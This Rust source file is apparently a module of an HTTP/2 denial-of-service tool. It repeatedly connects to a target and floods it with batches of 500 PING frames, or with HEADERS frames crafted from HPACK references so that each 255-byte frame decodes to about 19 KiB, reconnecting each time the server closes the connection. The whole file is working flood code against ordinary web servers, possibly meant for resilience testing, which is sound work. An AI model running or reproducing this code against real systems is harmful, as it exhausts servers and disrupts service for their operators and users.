//! Frames of HTTP/2 that belong to no request, as fast as they are taken: pings, and heads that are refused because they are
//! too large once they are decoded.

use super::Attack;
use crate::attack::target::attacker;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Before a connection that was refused or closed is made again.
const PAUSE: Duration = Duration::from_millis(250);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];
const PING: &[u8] = &[0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
const AT_ONCE: usize = 500;

/// Frames of one kind over one connection, made again whenever it is closed. All come from one address.
pub async fn send(attack: Attack, number: usize) {
    let frames = if number.is_multiple_of(2) { PING.repeat(AT_ONCE) } else { refused_heads() };
    while !attack.stop.is_cancelled() {
        attack.tally.tried();
        if attack.stop.run_until_cancelled(until_closed(&attack, &frames)).await.is_some() {
            attack.tally.closed();
        }
        attack.pause(PAUSE).await;
    }
}

/// Each is 255 bytes, and 19 KiB when it is decoded: a header of 160 bytes, and references to it.
fn refused_heads() -> Vec<u8> {
    let literal = [&[0x40, 1, b'x', 127][..], &[b'v'; 127]].concat();
    let block = [&[0x82, 0x86, 0x84][..], &literal, &[0xbe; 120]].concat();
    let heads = (0_u32..).take(AT_ONCE).map(|number| {
        let stream = (2 * number + 1).to_be_bytes();
        // Its length, and that it is a head which ends there, as does its request.
        [&[0, 0, 254, 1, 5][..], &stream, &block].concat()
    });
    heads.collect::<Vec<_>>().concat()
}

async fn until_closed(attack: &Attack, frames: &[u8]) -> io::Result<()> {
    let stream = attack.target.connect(attacker(6)).await?;
    let _open = attack.tally.open();
    let (mut answers, mut requests) = stream.into_split();
    requests.write_all(&[PREFACE, SETTINGS].concat()).await?;
    let sending = async { while requests.write_all(frames).await.is_ok() {} };
    let mut answer = vec![0; 64 * 1024];
    let reading = async { while answers.read(&mut answer).await.is_ok_and(|bytes| bytes > 0) {} };
    tokio::select! {
        () = sending => {}
        () = reading => {}
    }
    Ok(())
}
